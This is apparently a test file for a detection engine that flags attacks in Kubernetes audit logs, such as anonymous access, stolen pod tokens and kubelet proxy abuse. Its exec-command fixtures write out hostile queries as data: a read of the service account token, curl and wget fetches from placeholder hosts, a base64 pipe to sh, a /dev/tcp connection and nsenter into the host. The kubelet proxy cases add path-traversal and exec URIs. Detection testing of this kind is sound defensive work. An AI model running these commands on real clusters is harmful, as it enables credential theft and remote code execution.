import {describe, expect, test} from 'vitest';
import type {AuditEvent} from '../../src/audit/event.js';
import {createRuleEngine} from '../../src/sigma/engine.js';
import {loadRules} from '../../src/sigma/load/load.js';
import {recordedAttacks, recordedEvents} from '../helpers/recorded.js';

const {set} = loadRules(['rules']);
const recorded = recordedEvents();
const attacks = recordedAttacks();

/** The newest event of each alert of a rule on these events. */
function alerts(rule: string, events: readonly AuditEvent[]): AuditEvent[] {
  const engine = createRuleEngine(set);
  return events.flatMap(event => engine.push(event)).flatMap(m => (m.rule.id === rule ? (m.events.at(-1) ?? []) : []));
}

/** The first event of a recorded attack that a rule alerts on, with changes. */
function likeAttack(rule: string, change: (event: AuditEvent) => object): AuditEvent[] {
  const event = alerts(rule, recorded).find(e => attacks.has(e.auditID));
  if (!event) throw new Error(`${rule} alerts on nothing`);
  const copy = structuredClone(event);
  return [{...copy, ...change(copy)}];
}

describe('on the recorded log of a whole cluster', () => {
  test.each([
    // rule, the attacks it finds, and how many other events are truly like them: the set-up of other attacks
    ['anonymous-probing', ['KS-01'], []],
    ['anonymous-access-granted', ['KS-01'], []],
    ['anonymous-request-allowed', ['KS-01'], []],
    ['hostile-exec-command', ['KS-05', 'KS-29', 'KS-33'], []],
    ['system-service-account-created', ['KS-10'], ['/api/v1/namespaces/kube-system/serviceaccounts']],
    ['legacy-token-used', ['KS-10'], []],
    ['client-certificate-approved', ['KS-12'], []],
    ['masters-certificate-refused', ['KS-12'], []],
    ['privileged-token-minted', ['KS-13'], ['/api/v1/namespaces/kube-system/serviceaccounts/dns/token']],
    ['static-pod-created', ['KS-14'], []],
    ['kubelet-reached-by-proxy', ['KS-21'], []],
    // A stolen token that was tried again and again, until it had died with its pod.
    ['pod-token-used-outside', ['KS-29'], []],
    ['network-policy-removed', ['KS-33'], []],
  ])('%s finds %j, and nothing else', (rule, found, like) => {
    const seen = alerts(rule, recorded);
    expect([...new Set(seen.flatMap(e => attacks.get(e.auditID) ?? []))].sort()).toEqual(found);
    expect([...new Set(seen.filter(e => !attacks.has(e.auditID)).map(e => e.requestURI))]).toEqual(like);
  });
});

describe('what an attacker might try, and what is no attack', () => {
  test('a mirror pod with the name of a control plane part, and nothing else of it, is found', () => {
    const named = likeAttack('static-pod-created', e => ({objectRef: {...e.objectRef, name: 'kube-apiserver-x'}}));
    expect(alerts('static-pod-created', named)).toHaveLength(1);
  });

  test("a mirror pod of kubeadm's is not", () => {
    const own = likeAttack('static-pod-created', e => {
      const {metadata, spec} = e.requestObject as {metadata: object; spec: object};
      return {
        objectRef: {...e.objectRef, name: 'etcd-node-1', namespace: 'kube-system'},
        requestObject: {
          metadata: {...metadata, labels: {component: 'etcd', tier: 'control-plane'}},
          spec: {...spec, priorityClassName: 'system-node-critical'},
        },
      };
    });
    expect(alerts('static-pod-created', own)).toEqual([]);
  });

  test.each([
    ['/api/v1/nodes/n/proxy/metrics', 0],
    ['/api/v1/nodes/n/proxy/metrics/cadvisor', 0],
    ['/api/v1/nodes/n/proxy/stats/summary?only_cpu_and_memory=true', 0],
    ['/api/v1/nodes/n/proxy/healthz', 0],
    ['/api/v1/nodes/n/proxy/metrics/../runningpods/', 1],
    ['/api/v1/nodes/n/proxy/metrics%2F..%2Frunningpods', 1],
    ['/api/v1/nodes/n/proxy/statsandmore', 1],
    ['/api/v1/nodes/n/proxy/exec/ns/pod/c?command=id', 1],
    ['/api/v1/nodes/n/proxy/run/ns/pod/c?cmd=metrics/', 1],
  ])('kubelet-reached-by-proxy on %s: %i', (requestURI, times) => {
    expect(
      alerts(
        'kubelet-reached-by-proxy',
        likeAttack('kubelet-reached-by-proxy', () => ({requestURI})),
      ),
    ).toHaveLength(times);
  });

  test('a command through nodes/proxy is found whatever its path, for reading monitoring is get alone', () => {
    const posted = likeAttack('kubelet-reached-by-proxy', () => ({
      verb: 'create',
      requestURI: '/api/v1/nodes/n/proxy/metrics',
    }));
    expect(alerts('kubelet-reached-by-proxy', posted)).toHaveLength(1);
  });

  const exec = (query: string) =>
    alerts(
      'hostile-exec-command',
      likeAttack('hostile-exec-command', () => ({requestURI: `/api/v1/namespaces/a/pods/p/exec?${query}`})),
    ).length;

  test.each([
    'command=cat&command=/var/run/secrets/kubernetes.io/serviceaccount/token&stdout=true',
    'command=cat&command=%2Frun%2Fsecrets%2Fkubernetes.io%2Fserviceaccount%2Ftoken',
    'command=curl&command=https%3A%2F%2Fexample.invalid%2Fx',
    'command=sh&command=-c&command=curl+-s+http%3A%2F%2F10.0.0.1%2Fx',
    'command=wget&command=-q&command=http://192.0.2.1/x',
    'command=sh&command=-c&command=echo%20aWQ%3D%20%7C%20base64%20-d%20%7C%20sh',
    'command=sh&command=-c&command=exec%203%3C%3E%2Fdev%2Ftcp%2F192.0.2.1%2F9',
    'command=nsenter&command=-t&command=1',
    'command=sh&command=-c&command=curl%20HTTP%3a%2f%2fx',
  ])('hostile-exec-command sees %s', query => {
    expect(exec(query)).toBe(1);
  });

  test.each([
    'command=id&stdout=true',
    'command=ls&command=%2Fetc',
    'command=curl&command=--version',
    'command=psql&command=-c&command=select%201',
    'container=curl-https&command=date',
  ])('hostile-exec-command leaves %s alone', query => {
    expect(exec(query)).toBe(0);
  });

  test('a binding of everybody who is known is no binding of anybody', () => {
    const known = likeAttack('anonymous-access-granted', () => ({
      requestObject: {subjects: [{kind: 'Group', name: 'system:authenticated'}]},
      responseObject: {subjects: [{kind: 'Group', name: 'system:authenticated'}]},
    }));
    expect(alerts('anonymous-access-granted', known)).toEqual([]);
  });

  test('a patch that adds the anonymous user is found by what the server answers', () => {
    const patched = likeAttack('anonymous-access-granted', e => ({
      verb: 'patch',
      requestObject: [{op: 'add', path: '/subjects/-', value: {kind: 'User'}}],
      responseStatus: {code: 200},
      responseObject: e.responseObject,
    }));
    expect(alerts('anonymous-access-granted', patched)).toHaveLength(1);
  });

  test('a certificate that is denied, or of another signer, is none that was approved', () => {
    const answered = (conditions: object[], signerName = 'kubernetes.io/kube-apiserver-client') =>
      alerts(
        'client-certificate-approved',
        likeAttack('client-certificate-approved', () => ({
          requestObject: {},
          responseObject: {spec: {signerName}, status: {conditions}},
        })),
      ).length;
    expect(answered([{type: 'Approved'}])).toBe(1);
    expect(answered([{type: 'Denied'}])).toBe(0);
    expect(answered([{type: 'Approved'}], 'kubernetes.io/kubelet-serving')).toBe(0);
  });

  test('a pod that uses its own token from its own address is at work', () => {
    const inside = likeAttack('pod-token-used-outside', () => ({sourceIPs: ['10.244.1.7']}));
    expect(alerts('pod-token-used-outside', inside)).toEqual([]);
  });
});
